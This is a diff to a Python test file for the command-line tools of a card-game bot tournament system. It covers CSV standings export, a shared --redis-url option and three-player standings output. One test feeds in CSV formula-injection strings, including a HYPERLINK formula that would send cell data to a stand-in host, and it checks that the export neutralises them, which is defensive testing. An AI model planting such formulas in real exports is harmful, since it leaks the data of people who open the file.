@@ -681,17 +681,103 @@ def test_standings_csv_cells_a_spreadsheet_would_run_as_formulas_are_text() -> N
     import csv
     import io
 
-    from cardarena_tournament import lifecycle
-    from cardarena_tournament.commands import write_standings_csv
+    from cardarena_tournament.export import write_standings_csv
 
     names = ['=HYPERLINK("//x.example/?"&A1,"me")', "+1", "-sum", "@cmd", "\tx", "plain=name"]
-    t = lifecycle.new_tournament(game="glaves", players=2, entrants=names, deal_sets=1, options={}, tid="wk1")
     rows = [
         {"rank": n, "bot": name, "mean": -0.5, "strikes": 0, "forfeits": 0, "places": {}}
         for n, name in enumerate(names, 1)
     ]
     out = io.StringIO()
-    write_standings_csv(t, rows, out)
+    write_standings_csv("wk1", "glaves", 2, rows, out)
     read = list(csv.DictReader(io.StringIO(out.getvalue())))
     assert [r["bot"] for r in read] == [*("'" + n for n in names[:5]), "plain=name"]
     assert {r["mean"] for r in read} == {"-0.5"}
+
+
+def _subcommands(parser: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], Any]]:
+    """Every leaf command of ``parser`` with its words (``("tournament", "status")``)."""
+    import argparse
+
+    subs = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
+    if not subs:
+        yield path, parser
+    for action in subs:
+        for name, child in action.choices.items():
+            yield from _subcommands(child, (*path, name))
+
+
+def test_every_command_on_a_redis_of_its_choosing_takes_the_same_redis_url_option() -> None:
+    """`tournament standings` (and status, list, cancel, create ...) once had no --redis-url
+    although the bot commands had: now every command that opens a Redis of its own choosing
+    has it, with the same meaning."""
+    from cardarena.cli import build_parser
+
+    options = {
+        words: next((a for a in p._actions if "--redis-url" in a.option_strings), None)
+        for words, p in _subcommands(build_parser())
+    }
+    takes = {" ".join(w) for w, a in options.items() if a is not None}
+    assert {
+        "service",
+        "dashboard",
+        "match",
+        "prune",
+        *(f"bot {c}" for c in ("register", "token", "list", "retire")),
+        *(f"tournament {c}" for c in ("create", "list", "status", "cancel", "schedules", "unschedule", "standings")),
+        "tournament run",
+    } <= takes
+    assert len({(a.help, a.metavar, a.default) for a in options.values() if a is not None}) == 1
+
+
+def test_the_tournament_commands_use_the_redis_given_with_redis_url(
+    redis_url: str, key_prefix: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Without REDIS_URL in the environment, `--redis-url` alone takes each tournament command
+    to that Redis (not to the embedded default)."""
+    from cardarena.cli import main
+
+    monkeypatch.delenv("REDIS_URL", raising=False)
+    client = client_for(redis_url)
+    for name in ("a", "b"):
+        BotStore(client).register(name)
+    at = ["--redis-url", redis_url]
+    assert main(["tournament", "create", "--game", "glaves", "--players", "2", "--bots", "a,b", *at]) == 0
+    tid = capsys.readouterr().out.strip()
+    assert TournamentStore(client).require(tid).entrants == ("a", "b")
+    assert main(["tournament", "status", tid, "--json", *at]) == 0
+    assert json.loads(capsys.readouterr().out)["id"] == tid
+    assert main(["tournament", "list", "--json", *at]) == 0
+    assert [t["id"] for t in json.loads(capsys.readouterr().out)["tournaments"]] == [tid]
+    assert main(["tournament", "standings", tid, "--json", *at]) == 0
+    assert json.loads(capsys.readouterr().out) == {"standings": [], "counted": 0}
+    assert main(["tournament", "cancel", tid, *at]) == 0
+    assert capsys.readouterr().out.startswith(f"cancelled {tid}")
+    assert TournamentStore(client).require(tid).status == "cancelled"
+    assert main(["tournament", "schedules", "--json", *at]) == 0
+    assert json.loads(capsys.readouterr().out) == {"schedules": []}
+    client.close()
+
+
+def test_standings_json_of_a_three_player_game_has_places_and_no_win_draw_loss(
+    redis_url: str, key_prefix: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """W/D/L is defined for two players only: `standings --json` and `--csv` of a 3-player
+    game once showed wins/draws/losses 0 for every bot; now they leave them out and keep the
+    places (as the REST API does)."""
+    from cardarena.cli import main
+
+    from .tournament_fixtures import counted_tournament
+
+    counted_tournament(redis_url, "tri", ["p", "q", "r"])
+    assert main(["tournament", "standings", "tri", "--json", "--redis-url", redis_url]) == 0
+    rows = json.loads(capsys.readouterr().out)["standings"]
+    assert [(r["bot"], r["places"], r["strikes"]) for r in rows] == [
+        ("p", {"1": 6}, 0),
+        ("q", {"2": 6}, 0),
+        ("r", {"3": 6}, 6),
+    ]
+    assert not {"wins", "draws", "losses"} & {k for r in rows for k in r}
+    assert main(["tournament", "standings", "tri", "--csv", "--redis-url", redis_url]) == 0
+    header = capsys.readouterr().out.splitlines()[0].split(",")
+    assert "place_3" in header and not {"wins", "draws", "losses"} & set(header)
